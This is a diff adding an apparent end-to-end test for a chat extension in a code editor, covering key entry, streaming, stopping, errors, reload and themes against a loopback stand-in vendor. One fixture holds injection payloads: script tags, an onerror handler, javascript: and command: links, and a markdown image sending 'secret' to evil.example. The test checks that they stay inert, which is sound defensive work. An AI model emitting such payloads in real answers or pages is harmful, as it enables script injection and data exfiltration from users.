@@ -1,0 +1,264 @@
+// The way of a new user through a real window: first run, key, question, stop, reload. The vendor is a scripted server on loopback.
+import { deepEqual, equal, match, ok } from 'node:assert/strict';
+import type { FrameLocator } from 'playwright-core';
+import {
+  startScriptedServer,
+  type RecordedRequest,
+  type ScriptedAnswer,
+  type ScriptedServer,
+} from '../fixtures/scripted-server.ts';
+import { openAiAnswer, vendorScript } from '../fixtures/vendors.ts';
+import { answers, ask, ended, stop } from './support/conversation.ts';
+import { openEditor, type Editor } from './support/editor.ts';
+
+const KEY = 'sk-the-right-key';
+const ANSWER = [
+  '`retry()` calls `run` up to `attempts` times ',
+  'and returns the first result.\n\n',
+  '```ts\nconst page = await retry(() => fetch(url));\n```\n\n',
+  'Between tries it waits longer each time.',
+];
+const MALICIOUS = [
+  '<script>parent.postMessage("pwned","*")</script><img src=x onerror=alert(1)> ',
+  '![picture](https://evil.example/?d=secret) ',
+  '[click](command:workbench.action.terminal.new) [js](javascript:alert(1)) ',
+  '[fine](https://example.com/docs)\n\n<style>body{background:url(https://evil.example/css)}</style>',
+];
+
+/** What the vendor does, by what the newest question says. */
+function answerTo(request: RecordedRequest): ScriptedAnswer {
+  const { messages } = JSON.parse(request.body) as { messages: { content: string }[] };
+  const question = messages.at(-1)?.content ?? '';
+  const json = { 'content-type': 'application/json' };
+  if (question.includes('slow please'))
+    return { ...openAiAnswer(Array.from({ length: 200 }, (_, index) => `word${index} `)), chunkDelayMs: 100 };
+  if (question.includes('be evil')) return openAiAnswer(MALICIOUS);
+  if (question.includes('break off')) return { ...openAiAnswer(['Half of ', 'it']), cutAfterBytes: 400 };
+  if (question.includes('web page'))
+    return { headers: { 'content-type': 'text/html' }, chunks: ['<html>Sign in</html>'] };
+  if (question.includes('too many'))
+    return {
+      status: 429,
+      headers: { ...json, 'retry-after': '7' },
+      chunks: ['{"error":{"message":"Rate limit reached","type":"tokens","code":"rate_limit_exceeded"}}'],
+    };
+  return { ...openAiAnswer(ANSWER), delayMs: 400, chunkDelayMs: 30 };
+}
+
+const vendor = vendorScript({ openai: { models: ['gpt-5-mini', 'gpt-5'], answer: answerTo } });
+
+/** A vendor that refuses every key but {@link KEY}. */
+function script(request: RecordedRequest): ScriptedAnswer {
+  if (request.headers.authorization === `Bearer ${KEY}`) return vendor(request);
+  return {
+    status: 401,
+    headers: { 'content-type': 'application/json' },
+    chunks: ['{"error":{"message":"Incorrect API key provided"}}'],
+  };
+}
+
+describe('a new user’s way through a real window', function () {
+  this.timeout(60_000);
+  let server: ScriptedServer;
+  let editor: Editor;
+  let chat: FrameLocator;
+
+  before(async () => {
+    server = await startScriptedServer(script);
+    editor = await openEditor({ env: { OPENAI_BASE_URL: `${server.url}/v1`, OLLAMA_HOST: 'http://127.0.0.1:1' } });
+    chat = await editor.openChat();
+  });
+  after(async () => {
+    await editor?.close();
+    await server?.close();
+  });
+  afterEach(async function () {
+    if (this.currentTest?.state === 'failed')
+      await editor.shot(`failed-${this.currentTest.title.replaceAll(/\W+/g, '-').slice(0, 60)}`);
+  });
+
+  const enterKey = async (key: string): Promise<void> => {
+    await editor.page.locator('.quick-input-list .monaco-list-row', { hasText: 'OpenAI' }).first().click();
+    const input = editor.page.locator('.quick-input-widget input[type="password"]');
+    await input.fill(key);
+    await input.press('Enter');
+  };
+  const scrollUp = async (): Promise<void> => {
+    await chat.locator('[role="log"]').hover();
+    await editor.page.mouse.wheel(0, -100_000);
+  };
+  const statusBar = (text: string | RegExp) => editor.page.locator('.statusbar-item', { hasText: text });
+
+  it('offers three ways to a first model, and takes no question before', async () => {
+    await chat.locator('[data-way="key"]').waitFor();
+    equal(await chat.locator('[data-way]').count(), 3);
+    equal(await chat.locator('#question').isDisabled(), true);
+    await statusBar('no model').waitFor();
+    await editor.shot('first-run');
+  });
+
+  it('says that a wrong key was refused', async () => {
+    await chat.locator('[data-way="key"]').click();
+    await enterKey('sk-wrong');
+    const sentence = chat.getByText('OpenAI refused the key').first();
+    await sentence.waitFor();
+    ok(await sentence.isVisible());
+  });
+
+  it('is ready as soon as the right key is entered', async () => {
+    await chat.locator('[data-way="key"]').click();
+    await enterKey(KEY);
+    await chat.locator('#question:enabled').waitFor();
+    await statusBar('auto').waitFor();
+    equal(await chat.locator('[data-way]').count(), 0);
+  });
+
+  it('shows the open file as a chip with its tokens', async () => {
+    await editor.page.keyboard.press('Control+P');
+    await editor.page.locator('.quick-input-widget input').fill('http.ts');
+    await editor.page.locator('.quick-input-list .monaco-list-row', { hasText: 'http.ts' }).first().click();
+    const chip = chat.locator('[data-chip]', { hasText: /http\.ts\s*\d/ });
+    await chip.waitFor();
+    equal(await chip.count(), 1);
+  });
+
+  it('shows the decision before the first token, then the answer, then what it cost', async () => {
+    const answer = await ask(chat, 'what does retry() in src/http.ts do?');
+    await answer.locator('details.decision').waitFor();
+    equal(
+      await answer
+        .locator('.md')
+        .innerText()
+        .catch(() => ''),
+      '',
+    );
+    match(await answer.locator('details.decision .price').innerText(), /≈/);
+    match(await answer.locator('details.decision .why').innerText(), /explain, \w+/);
+    await ended(answer);
+    match(await answer.locator('.md').innerText(), /returns the first result/);
+    equal(await answer.locator('.code .k, .code .hljs-keyword').first().innerText(), 'const');
+    match(await answer.locator('.foot').innerText(), /priced/);
+    match(await answer.locator('.foot').innerText(), /1.204 in · 86 out/);
+    await statusBar(/auto · \$0\.\d+ today/).waitFor();
+    await editor.shot('answer');
+  });
+
+  it('sends the key to the vendor and the file as data', () => {
+    const request = server.requests.findLast((each) => each.path === '/v1/chat/completions');
+    equal(request?.headers.authorization, `Bearer ${KEY}`);
+    match(request?.body ?? '', /export async function retry/);
+  });
+
+  it('stops at once, closes the connection and keeps the text', async () => {
+    const answer = await ask(chat, 'slow please');
+    await answer.locator('.md', { hasText: 'word3' }).waitFor();
+    await stop(chat);
+    await ended(answer, 'stopped', 5_000);
+    match(await answer.innerText(), /stopped after \d+ tokens/);
+    match(await answer.locator('.foot').innerText(), /estimated/);
+    equal(await server.requests.at(-1)?.closed, true);
+  });
+
+  it('lets a second message wait while the first one streams', async () => {
+    const first = await ask(chat, 'slow please');
+    await first.locator('.md', { hasText: 'word1' }).waitFor();
+    await chat.locator('#question').fill('and then this');
+    await chat.locator('#question').press('Enter');
+    await chat.locator('[data-queued]', { hasText: 'and then this' }).waitFor();
+    await stop(chat);
+    await ended(first, 'stopped', 5_000);
+    await ended(answers(chat).last());
+    equal(await chat.locator('[data-queued]').count(), 0);
+  });
+
+  it('draws a malicious answer as text: nothing runs, nothing is fetched', async () => {
+    const answer = await ask(chat, 'be evil');
+    await ended(answer);
+    equal(await answer.locator('.md script, .md img, .md style, .md [onerror]').count(), 0);
+    // What stays a link leads to https and opens nothing by itself.
+    deepEqual(await answer.locator('.md a').allInnerTexts(), ['fine', 'https://evil.example/css']);
+    equal(await answer.locator('.md a:not([href^="https://"])').count(), 0);
+    deepEqual(editor.outside, []);
+  });
+
+  it('keeps what came when the stream breaks, and says so', async () => {
+    const answer = await ask(chat, 'break off');
+    await ended(answer, 'failed');
+    match(await answer.innerText(), /The text above is kept/);
+    match(await answer.innerText(), /BATON_E_ABNORMAL_END/);
+  });
+
+  it('says what to do when a web page answers, and when it is too much', async () => {
+    const page = await ask(chat, 'answer with a web page');
+    await ended(page, 'failed');
+    match(await page.innerText(), /BATON_E_INVALID_RESPONSE/);
+    const many = await ask(chat, 'too many');
+    await ended(many, 'failed');
+    match(await many.innerText(), /BATON_E_RATE_LIMIT/);
+    equal(await chat.locator('#send').getAttribute('data-mode'), 'send');
+  });
+
+  it('asks again with a stronger model', async () => {
+    const before = await answers(chat).count();
+    await scrollUp();
+    await answers(chat).first().locator('[data-tool="again"]').click();
+    await chat
+      .getByRole('menuitem', { name: /Stronger/ })
+      .or(chat.getByRole('menuitemradio', { name: /Stronger/ }))
+      .first()
+      .click();
+    const again = answers(chat).nth(before);
+    await ended(again);
+    equal(await again.locator('details.decision .model').innerText(), 'GPT-5');
+  });
+
+  it('keeps the conversation over a reload, also one in the middle of an answer', async () => {
+    const answer = await ask(chat, 'slow please');
+    await answer.locator('.md', { hasText: 'word12' }).waitFor();
+    const count = await answers(chat).count();
+    await editor.reload();
+    await editor.openChat();
+    await answers(chat)
+      .nth(count - 1)
+      .waitFor();
+    equal(await answers(chat).count(), count);
+    match(await answers(chat).first().locator('.md').innerText(), /returns the first result/);
+    const cut = answers(chat).nth(count - 1);
+    ok(['interrupted', 'stopped'].includes((await cut.getAttribute('data-status')) ?? ''));
+    match(await cut.locator('.md').innerText(), /word5/);
+    await chat.locator('#question:enabled').waitFor();
+  });
+
+  for (const [name, theme] of [
+    ['dark', 'Dark Modern'],
+    ['light', 'Light Modern'],
+    ['hc-dark', 'Dark High Contrast'],
+    ['hc-light', 'Light High Contrast'],
+  ] as const) {
+    it(`is drawn in ${theme}`, async () => {
+      await editor.run('Preferences: Color Theme');
+      await editor.page.locator('.quick-input-widget input').fill(theme);
+      await editor.page.locator('.quick-input-list .monaco-list-row', { hasText: theme }).first().click();
+      await editor.page
+        .locator(
+          `.monaco-workbench.${name === 'light' ? 'vs' : name === 'dark' ? 'vs-dark' : name === 'hc-dark' ? 'hc-black' : 'hc-light'}`,
+        )
+        .waitFor();
+      await scrollUp();
+      ok(await answers(chat).first().locator('.foot').isVisible());
+      await editor.shot(`chat-${name}`);
+    });
+  }
+
+  it('starts a new conversation and finds the old one in the history', async () => {
+    await editor.run('Baton: New Conversation');
+    await chat.locator('article.answer').first().waitFor({ state: 'detached' });
+    equal(await answers(chat).count(), 0);
+    await editor.run('Baton: Conversations…');
+    await editor.page.locator('.quick-input-list .monaco-list-row', { hasText: 'what does retry()' }).click();
+    await answers(chat).first().waitFor();
+    match(await answers(chat).first().locator('.md').innerText(), /returns the first result/);
+  });
+
+  it('never asks anything outside this machine', () => deepEqual(editor.outside, []));
+});
